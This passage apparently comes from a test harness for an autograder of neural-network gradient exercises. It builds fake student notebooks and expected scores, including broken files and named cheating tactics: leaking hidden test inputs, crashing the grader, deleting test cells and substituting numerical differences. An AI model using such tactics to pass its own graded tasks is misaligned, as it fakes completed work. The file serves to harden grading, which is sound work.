            losing("log_backward"),
            "",
        ),
        "quin": (  # hidden inputs in the digits of a returned number and dict, which the check quoted
            E,
            submission(
                kit,
                E,
                chained(
                    inside("solution-NegBackward", LEAK_AS_A_NUMBER), inside("solution-MulBackward", LEAK_AS_A_DICT)
                ),
            ),
            losing("neg_backward", "mul_backward"),
            "",
        ),
        "rhea": (
            E,
            submission(
                kit,
                E,
                chained(
                    inside("solution-MulBackward", NUMERICAL_MUL_BY_RELATIVE_STEPS),
                    inside("solution-NegBackward", NUMERICAL_NEG_BY_RELATIVE_STEPS),
                ),
            ),
            losing("mul_backward", "neg_backward"),
            "",
        ),
        "ola": (  # finite differences as a complex array and as a list
            ACTIVATIONS,
            submission(
                kit,
                ACTIVATIONS,
                chained(
                    inside("solution-SigmoidBackward", NUMERICAL_AS_COMPLEX),
                    inside("solution-TanhBackward", NUMERICAL_AS_A_LIST),
                ),
            ),
            points_of(ACTIVATIONS) - points_of(ACTIVATIONS, {"sigmoid_backward", "tanh_backward"}),
            "",
        ),
        "pia": (
            ACTIVATIONS,
            submission(
                kit,
                ACTIVATIONS,
                chained(
                    inside("solution-ReLUBackward", LEAK_INTO_A_FLAG),
                    inside("solution-SigmoidBackward", PRINT_THE_FLAG),
                ),
            ),
            points_of(ACTIVATIONS),
            "",
        ),
        "yara": (
            E,
            submission(kit, E, inside("solution-NegBackward", LEAK_IN_A_FORGED_SHAPE)),
            points_of(E) - points_of(E, {"neg_backward"}),
            "",
        ),
        "wren": (
            FUNCTION,
            submission(kit, FUNCTION, inside("solution-SquareBackward", CRASH_THE_GRADER_ON_THE_HIDDEN_SHAPE)),
            points_of(FUNCTION) - points_of_tests(FUNCTION, {"square_backward_hidden"}),
            "",
        ),
        "sage": (
            LOSSES,
            submission(kit, LOSSES, inside("solution-BCEBackward", NUMERICAL_BCE_WITH_EPS_CHANGED)),
            points_of(LOSSES) - points_of(LOSSES, {"bce_backward", "bce_backward_twice"}),
            "",
        ),
        # given code that did an exercise's work: 01's comparisons (elementwise's body), 16's measure (11's
        # accuracy), and 13's visible test's finite differences (tied_weight_grad: refused as a numerical rule is)
        "yan": (
            TENSOR,
            submission(kit, TENSOR, body_replaced(*ELEMENTWISE_BY_COMPARE)),
            points_of(TENSOR) - points_of(TENSOR, {"tensor_elementwise"}),
            "",
        ),
        "abe": (
            TRAINING,
            submission(kit, TRAINING, body_replaced(*ACCURACY_BY_MEASURE)),
            points_of(TRAINING) - points_of(TRAINING, {"accuracy"}),
            "RecursionError",
        ),
        "xia": (
            EMBEDDING,
            submission(kit, EMBEDDING, body_replaced(*TIED_BY_DIFFERENCES)),
            points_of(EMBEDDING) - points_of(EMBEDDING, {"tied_gradient"}),
            "",
        ),
        **corner_cases(kit, submission, points_of),  # issue 44: locks on shared files, float32, moved parameters
    }
    expected = {}
    for student, (notebook, nb, score, note) in cases.items():
        write_notebook(nb, out / student / notebook / f"{notebook}.ipynb")
        expected[student] = {"assignment": notebook, "score": score, "max_score": points_of(notebook), "note": note}
    (out / "rosa" / E / "notes.txt").write_text("my notes: the extra file must not bother the grader\n")
    expected.update(broken_files(kit, out))
    (out.parent / "expected.json").write_text(json.dumps(expected, indent=1))
    return expected


def wrong_add_and_mul(extra):
    def answer(gid, solution, stub):
        if gid == "solution-AddBackward":
            return (
                solution.replace(
                    "return unbroadcast(grad_output, a.shape), unbroadcast(grad_output, b.shape)",
                    "return grad_output, grad_output",
                )
                + "\n\n"
                + extra
            )
        if gid == "solution-MulBackward":
            return solution.replace("grad_output * b, a.shape", "grad_output * a, a.shape")
        return solution

    return answer


def inside_wrong_mul(patch):
    wrong = replace_in("solution-MulBackward", "grad_output * b, a.shape", "grad_output * a, a.shape")
    patched = inside("solution-MulBackward", patch.strip())

    def answer(gid, solution, stub):
        return patched(gid, wrong(gid, solution, stub), stub)

    return answer


def only_all_with(extra, where="solution-NegBackward"):
    "Everything solved, with module-level `extra` code after the exercise `where`."

    def answer(gid, solution, stub):
        return solution + "\n\n" + extra if gid == where else solution

    return answer


def tampered_tests(nb, delete):
    "Delete every test cell and empty the given setup (delete=True), or replace the tests by `pass`."
    cells = []
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade"):
            if delete:
                continue
            cell.source = cell.source.splitlines()[0] + "\npass"
        elif "BROADCAST_PAIRS = " in cell.source:
            cell.source = "BROADCAST_PAIRS = []"
        cells.append(cell)
    nb.cells = cells
    return nb


def broken_files(kit, out):
    "Submissions that cannot be graded; each must be named in the table with what to do, costing no one else."
    E = ELEMENTWISE
    (out / "nick" / E).mkdir(parents=True)
    (out / "nick" / E / f"{E}.ipynb").write_text('{"cells": [ {"cell_type": "code", ')
    (out / "olga" / E).mkdir(parents=True)
    (out / "olga" / E / f"{E}.ipynb").write_text("")
    write_notebook(read_notebook(Path(kit) / "02_function" / "02_function.ipynb"), out / "pete" / E / f"{E}.ipynb")
    (out / "quinn" / E).mkdir(parents=True)
    (out / "quinn" / E / "notes.txt").write_text("I forgot to upload the notebook\n")
    (out / "sam").mkdir(parents=True)
    write_notebook(submission(kit, E), out / "sam" / f"{E}.ipynb")
    return {
        "nick": {"assignment": E, "problem": "not valid JSON"},
        "olga": {"assignment": E, "problem": "empty"},
        "pete": {"assignment": E, "problem": "not the 04_elementwise notebook"},
        "quinn": {"assignment": E, "problem": "missing 04_elementwise.ipynb"},
        "sam": {"assignment": E, "problem": "is not inside an assignment folder"},
    }


def compare(rows, expected):
    "[(student, what was expected, what came)] for every row that is not what `expected` says."
    wrong = []
    by_student = {r.student: r for r in rows}
    for student, want in expected.items():
        row = by_student.get(student)
        if row is None:
            wrong.append((student, want, "no row in the grade table"))
        elif "problem" in want:
            if want["problem"] not in row.note or row.score != 0:
                wrong.append((student, want, f"score {row.score:g}, note {row.note!r}"))
        elif (row.score, row.max_score) != (want["score"], want["max_score"]) or want["note"] not in row.note:
            wrong.append((student, want, f"score {row.score:g}/{row.max_score:g}, note {row.note!r}"))
    return wrong
